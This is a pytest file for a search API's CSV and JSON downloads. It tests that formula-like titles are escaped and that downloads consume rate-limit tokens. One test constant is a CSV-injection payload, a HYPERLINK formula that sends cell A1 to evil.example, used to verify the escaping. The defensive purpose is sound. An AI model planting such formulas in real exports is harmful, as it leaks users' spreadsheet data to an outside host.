"""The public lookup's downloads: formulas neutralised, and charged the searches they run."""

import csv
import io
from types import SimpleNamespace

import pytest
from flask import g

from archivo.search import public
from archivo.search.ratelimit import TokenBucket
from tests import factories as f
from tests.search import db_corpus

corpus, index = db_corpus.corpus, db_corpus.index
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'


@pytest.fixture
def anon(app, client, corpus):
    app.extensions.pop(public.EXTENSION, None)
    yield client
    app.extensions.pop(public.EXTENSION, None)


def test_csv_download_neutralises_a_formula_title(anon, corpus):
    f.expediente(corpus["ctx"], titulo=ATTACK, fecha_apertura="2021-04-01")
    resp = anon.get("/api/v1/public/search?q=HYPERLINK&format=csv")
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r["titulo"] for r in rows] == ["'" + ATTACK]


def _frozen_bucket(app, capacity: int) -> TokenBucket:
    bucket = TokenBucket(capacity, clock=lambda: 0.0)  # no refill during the test
    app.extensions[public.EXTENSION] = bucket
    return bucket


def test_download_needs_the_tokens_of_every_search_it_may_run(app, anon):
    bucket = _frozen_bucket(app, 12)
    assert anon.get("/api/v1/public/search?format=json").status_code == 200
    # Six hits took one search: the other tokens charged in advance came back.
    assert bucket._buckets["127.0.0.1"][0] == pytest.approx(11)
    for _ in range(9):
        assert anon.get("/api/v1/public/search?q=x").status_code == 200
    resp = anon.get("/api/v1/public/search?format=csv")  # 2 tokens left, 10 needed
    assert resp.status_code == 429 and int(resp.headers["Retry-After"]) >= 1
    assert anon.get("/api/v1/public/search?q=x").status_code == 200  # a plain search fits


def test_download_cost_never_exceeds_a_small_limit(app, anon):
    _frozen_bucket(app, 3)  # below DOWNLOAD_SEARCHES: one download empties the bucket
    assert anon.get("/api/v1/public/search?format=csv").status_code == 200
    assert anon.get("/api/v1/public/search?q=x").status_code == 200  # 1 used, 2 back
    assert anon.get("/api/v1/public/search?q=x").status_code == 200
    assert anon.get("/api/v1/public/search?q=x").status_code == 429


def test_token_bucket_cost_and_give_back():
    bucket = TokenBucket(20, clock=lambda: 0.0)
    assert bucket.take("a", 10) == 0 and bucket.take("a", 10) == 0
    assert bucket.take("a", 10) == pytest.approx(10 / (20 / 60))
    bucket.give_back("a", 50)
    assert bucket._buckets["a"][0] == 20  # never above the capacity
    assert bucket.take("a", 100) == 0  # charged as the capacity
    assert bucket.take("a") > 0


def test_refund_counts_pages_high(app, monkeypatch):
    refunded = []
    bucket = SimpleNamespace(give_back=lambda _client, n: refunded.append(n))
    monkeypatch.setattr(public, "_bucket", lambda: bucket)
    for found in (0, 99, 100, 250, 1000):
        with app.test_request_context("/"):
            g.rate_limit_charged = public.DOWNLOAD_SEARCHES
            public._refund_unused_searches(found)
    assert refunded == [9, 9, 8, 7]  # 1000 hits: up to 10 searches, nothing back
